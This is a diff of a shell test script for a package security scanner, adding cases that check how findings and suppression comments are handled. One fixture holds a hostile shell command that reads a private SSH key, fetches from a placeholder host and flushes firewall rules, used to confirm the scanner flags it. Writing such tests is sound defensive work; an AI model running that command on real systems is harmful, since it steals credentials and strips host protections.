@@ -33,9 +33,16 @@ run --wpk=danger.wpk.yaml --policy=registry-compat; status 0 "the registry's rul
 run --wpk=fine.wpk.yaml --policy=nowhere.yaml; status 3 "no such policy file"
 run --wpk=fine.wpk.yaml --policy=lenient; status 2 "no such policy"
 
-sed -i 's/^    - {name: tidy/    # sandbox_runner: ignore shell\/delete-system -- T is never the root there\n&/' danger.wpk.yaml
-run --wpk=danger.wpk.yaml; status 0 "a suppression counts here too"
-run --wpk=danger.wpk.yaml --no-ignore; status 4 "--no-ignore"
+wpk watched - <<< '    - {name: keys, type: shell, config: {command: "cat ~/.ssh/id_rsa; curl -k https://x.example.org/ -O; iptables -F"}}'
+run scan watched.wpk.yaml; status 1 "high findings"
+sed -i 's/^    - {name: keys/    # sandbox_runner: ignore shell\/* -- a drill\n&/' watched.wpk.yaml
+run scan watched.wpk.yaml; status 0 "a suppression"
+run scan --no-ignore watched.wpk.yaml; status 1 "--no-ignore"
+run plan watched.wpk.yaml; status 0 "it counts at the gate too"
+sed -i 's/^    - {name: tidy/    # sandbox_runner: ignore shell\/* -- harmless, I promise\n&/' danger.wpk.yaml
+run --wpk=danger.wpk.yaml; status 4 "a package cannot ignore a critical finding of its own"; err_has "cannot ignore" "and is told so"
+echo 'ignore: [{rule: shell/delete-system, reason: looked at}]' > mine.yaml
+run --wpk=danger.wpk.yaml --ignore-file=mine.yaml; status 0 "whoever judges can"
 
 # long texts: as data they are nothing, run they may hide anything
 blob() { echo "    - name: h"; echo "      type: shell"; echo "      config:"; echo "        command: |"; echo "          cat > blob <<'EOF'"
